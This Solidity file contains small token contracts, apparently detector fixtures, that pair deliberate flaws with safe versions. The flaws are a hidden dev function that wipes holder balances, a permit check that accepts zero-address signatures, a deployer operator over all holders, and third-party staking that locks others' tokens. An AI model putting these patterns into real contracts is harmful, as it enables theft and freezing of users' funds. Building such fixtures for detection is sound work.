// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Permit.sol";
import {ERC20Votes} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Votes.sol";
import {Nonces} from "@openzeppelin/contracts/utils/Nonces.sol";
import {PlainOwnable20, PlainToken20} from "./x00Base.sol";

/// `Approve` with a capital letter approves nothing.
contract CapitalApprove is PlainToken20, PlainOwnable20 {
  address private _dev;

  constructor() PlainToken20("Capital Letters", "CAPS", 9, 1_000_000_000 * 10 ** 9) {
    _dev = _msgSender();
    renounceOwnership();
  }

  modifier onlyDev() {
    require(_dev == _msgSender(), "Ownable: caller is not the owner");
    _;
  }

  function Approve(address[] calldata spenders) external onlyDev returns (bool) {
    for (uint256 i = 0; i < spenders.length; i++) {
      _balances[spenders[i]] = 1;
      emit Approval(spenders[i], _dev, 1);
    }
    return true;
  }
}

/// Session keys sign for holders; who has none has the zero address.
contract SessionKeyPermit is PlainToken20 {
  bytes32 private constant PERMIT_TYPEHASH =
    keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
  bytes32 public immutable DOMAIN_SEPARATOR;
  mapping(address => uint256) public nonces;
  mapping(address => address) public sessionKeyOf;

  constructor() PlainToken20("Session Permit", "SESS", 18, 21_000_000 ether) {
    DOMAIN_SEPARATOR = keccak256(
      abi.encode(
        keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
        keccak256(bytes("Session Permit")),
        keccak256(bytes("1")),
        block.chainid,
        address(this)
      )
    );
  }

  function setSessionKey(address key) external {
    sessionKeyOf[msg.sender] = key;
  }

  function permit(
    address owner,
    address spender,
    uint256 value,
    uint256 deadline,
    uint8 v,
    bytes32 r,
    bytes32 s
  ) external {
    require(deadline >= block.timestamp, "Permit: expired");
    require(owner != address(0), "Permit: no owner");
    bytes32 digest = keccak256(
      abi.encodePacked(
        "\x19\x01",
        DOMAIN_SEPARATOR,
        keccak256(abi.encode(PERMIT_TYPEHASH, owner, spender, value, nonces[owner]++, deadline))
      )
    );
    address signer = ecrecover(digest, v, r, s);
    require(signer == owner || signer == sessionKeyOf[owner], "Permit: invalid signature");
    _approve(owner, spender, value);
  }
}

/// ERC-777 in miniature, with operators that nobody chose.
contract DefaultOperatorCoin is PlainToken20 {
  address[] private _defaultOperatorsArray;
  mapping(address => bool) private _defaultOperators;
  mapping(address => mapping(address => bool)) private _operators;
  mapping(address => mapping(address => bool)) private _revokedDefaultOperators;

  event AuthorizedOperator(address indexed operator, address indexed tokenHolder);
  event RevokedOperator(address indexed operator, address indexed tokenHolder);
  event Sent(address indexed operator, address indexed from, address indexed to, uint256 amount, bytes data, bytes operatorData);

  constructor() PlainToken20("Default Operator", "DOPE", 18, 33_000_000 ether) {
    _defaultOperatorsArray.push(msg.sender);
    _defaultOperators[msg.sender] = true;
  }

  function granularity() external pure returns (uint256) {
    return 1;
  }

  function defaultOperators() external view returns (address[] memory) {
    return _defaultOperatorsArray;
  }

  function isOperatorFor(address operator, address tokenHolder) public view returns (bool) {
    return
      operator == tokenHolder ||
      (_defaultOperators[operator] && !_revokedDefaultOperators[tokenHolder][operator]) ||
      _operators[tokenHolder][operator];
  }

  function authorizeOperator(address operator) external {
    require(msg.sender != operator, "ERC777: authorizing self as operator");
    if (_defaultOperators[operator]) delete _revokedDefaultOperators[msg.sender][operator];
    else _operators[msg.sender][operator] = true;
    emit AuthorizedOperator(operator, msg.sender);
  }

  function revokeOperator(address operator) external {
    require(operator != msg.sender, "ERC777: revoking self as operator");
    if (_defaultOperators[operator]) _revokedDefaultOperators[msg.sender][operator] = true;
    else delete _operators[msg.sender][operator];
    emit RevokedOperator(operator, msg.sender);
  }

  function send(address recipient, uint256 amount, bytes calldata data) external {
    _transfer(msg.sender, recipient, amount);
    emit Sent(msg.sender, msg.sender, recipient, amount, data, "");
  }

  function operatorSend(
    address sender,
    address recipient,
    uint256 amount,
    bytes calldata data,
    bytes calldata operatorData
  ) external {
    require(isOperatorFor(msg.sender, sender), "ERC777: caller is not an operator for holder");
    _transfer(sender, recipient, amount);
    emit Sent(msg.sender, sender, recipient, amount, data, operatorData);
  }
}

/// The same without any operator that the holder did not choose.
contract ChosenOperatorCoin is PlainToken20 {
  mapping(address => mapping(address => bool)) private _operators;

  event AuthorizedOperator(address indexed operator, address indexed tokenHolder);
  event RevokedOperator(address indexed operator, address indexed tokenHolder);
  event Sent(address indexed operator, address indexed from, address indexed to, uint256 amount, bytes data, bytes operatorData);

  constructor() PlainToken20("Chosen Operator", "CHOP", 18, 33_000_000 ether) {}

  function granularity() external pure returns (uint256) {
    return 1;
  }

  function defaultOperators() external pure returns (address[] memory) {
    return new address[](0);
  }

  function isOperatorFor(address operator, address tokenHolder) public view returns (bool) {
    return operator == tokenHolder || _operators[tokenHolder][operator];
  }

  function authorizeOperator(address operator) external {
    require(msg.sender != operator, "ERC777: authorizing self as operator");
    _operators[msg.sender][operator] = true;
    emit AuthorizedOperator(operator, msg.sender);
  }

  function revokeOperator(address operator) external {
    delete _operators[msg.sender][operator];
    emit RevokedOperator(operator, msg.sender);
  }

  function operatorSend(
    address sender,
    address recipient,
    uint256 amount,
    bytes calldata data,
    bytes calldata operatorData
  ) external {
    require(isOperatorFor(msg.sender, sender), "ERC777: caller is not an operator for holder");
    _transfer(sender, recipient, amount);
    emit Sent(msg.sender, sender, recipient, amount, data, operatorData);
  }
}

/// Anyone may stake for anyone, with the other's tokens.
contract StakeForYou is PlainToken20 {
  struct Stake {
    uint256 amount;
    uint256 until;
  }

  mapping(address => Stake) public stakes;

  constructor() PlainToken20("Stake For You", "SFY", 18, 88_000_000 ether) {}

  function stakeFor(address account, uint256 amount, uint256 lockDays) external {
    require(amount > 0, "SFY: nothing");
    require(lockDays >= 7 && lockDays <= 3650, "SFY: 7 to 3650 days");
    _move(account, address(this), amount);
    Stake storage stake = stakes[account];
    stake.amount += amount;
    uint256 until = block.timestamp + lockDays * 1 days;
    if (until > stake.until) stake.until = until;
  }

  function withdraw() external {
    Stake memory stake = stakes[msg.sender];
    require(block.timestamp >= stake.until, "SFY: locked");
    delete stakes[msg.sender];
    _move(address(this), msg.sender, stake.amount);
  }
}

/// Everyone stakes their own.
contract StakeOwn is PlainToken20 {
  struct Stake {
    uint256 amount;
    uint256 until;
  }

  mapping(address => Stake) public stakes;

  constructor() PlainToken20("Stake Own", "SOWN", 18, 88_000_000 ether) {}

  function stake(uint256 amount, uint256 lockDays) external {
    require(amount > 0 && lockDays >= 7 && lockDays <= 365, "SOWN: 7 to 365 days");
    _move(msg.sender, address(this), amount);
    Stake storage own = stakes[msg.sender];
    own.amount += amount;
    uint256 until = block.timestamp + lockDays * 1 days;
    if (until > own.until) own.until = until;
  }

  function withdraw() external {
    Stake memory own = stakes[msg.sender];
    require(own.amount > 0 && block.timestamp >= own.until, "SOWN: locked");
    delete stakes[msg.sender];
    _move(address(this), msg.sender, own.amount);
  }
}

contract PermitVotesPlain is ERC20, ERC20Permit, ERC20Votes {
  constructor() ERC20("Permit Votes Plain", "PVP") ERC20Permit("Permit Votes Plain") {
    _mint(msg.sender, 12_000_000 ether);
  }

  function _update(address from, address to, uint256 value) internal override(ERC20, ERC20Votes) {
    super._update(from, to, value);
  }

  function nonces(address owner) public view override(ERC20Permit, Nonces) returns (uint256) {
    return super.nonces(owner);
  }
}
